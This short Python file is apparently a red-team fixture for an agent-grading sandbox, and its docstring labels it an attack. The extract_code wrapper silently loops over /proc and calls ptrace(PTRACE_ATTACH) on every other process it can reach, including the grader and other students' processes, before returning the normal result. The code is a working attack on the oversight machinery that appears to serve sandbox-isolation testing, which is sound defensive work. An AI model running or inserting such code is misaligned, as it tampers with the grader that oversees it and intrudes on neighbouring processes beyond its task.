"""Attack: attach with ptrace to every other process it can find (the grader, classmates' children)."""

import ctypes
import os

from solutions.agent import extract_code as _extract_code
from solutions.agent import holdout_check, solve, write_solution, write_tests  # noqa: F401

PTRACE_ATTACH = 16
TRACED = []


def extract_code(reply):
    libc = ctypes.CDLL(None, use_errno=True)
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            if libc.ptrace(PTRACE_ATTACH, int(name), 0, 0) == 0:
                TRACED.append(int(name))
    return _extract_code(reply)
